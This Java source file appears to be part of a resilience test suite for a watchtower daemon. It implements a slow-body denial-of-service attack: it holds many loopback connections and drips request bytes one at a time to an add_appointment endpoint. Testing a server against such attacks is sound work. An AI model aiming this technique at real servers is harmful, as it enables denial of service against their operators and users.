package teos.teosd.attack;

import java.io.IOException;
import java.net.InetAddress;
import java.net.Socket;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/** Connections with requests whose bodies come a byte at a time; one that is closed is replaced. */
public final class SlowBodies implements Attack {

  private static final byte[] HEAD =
      "POST /add_appointment HTTP/1.1\r\nHost: a\r\nContent-Length: 1000\r\n\r\n{"
          .getBytes(StandardCharsets.US_ASCII);
  private static final int HOLDERS = 8;

  private final URI api;
  private final int share;
  private final int byteMillis;
  private Repeated holders = new Repeated(0, () -> {});

  /**
   * @param byteMillis pause between two bytes of a connection
   */
  public SlowBodies(AttackedTower tower, int connections, int byteMillis) {
    this.api = tower.api();
    this.share = connections / HOLDERS;
    this.byteMillis = byteMillis;
  }

  @Override
  public void begin() throws Exception {
    holders = new Repeated(HOLDERS, this::hold);
    holders.await(HOLDERS);
  }

  /** Fills its share of the connections, sends a byte on each, again and again, and closes them. */
  private void hold() throws Exception {
    List<Socket> held = new ArrayList<>();
    try {
      for (int rounds = 0; rounds < 10; rounds++) {
        held.removeIf(socket -> !isWritten(socket));
        while (held.size() < share) {
          Socket socket = new Socket(InetAddress.getLoopbackAddress(), api.getPort());
          held.add(socket);
          socket.getOutputStream().write(HEAD);
        }
        Thread.sleep(byteMillis);
      }
    } finally {
      for (Socket socket : held) {
        socket.close();
      }
    }
  }

  private static boolean isWritten(Socket socket) {
    try {
      socket.getOutputStream().write(' ');
      return true;
    } catch (IOException e) {
      return false; // closed by the tower
    }
  }

  @Override
  public void close() throws Exception {
    holders.close();
  }
}
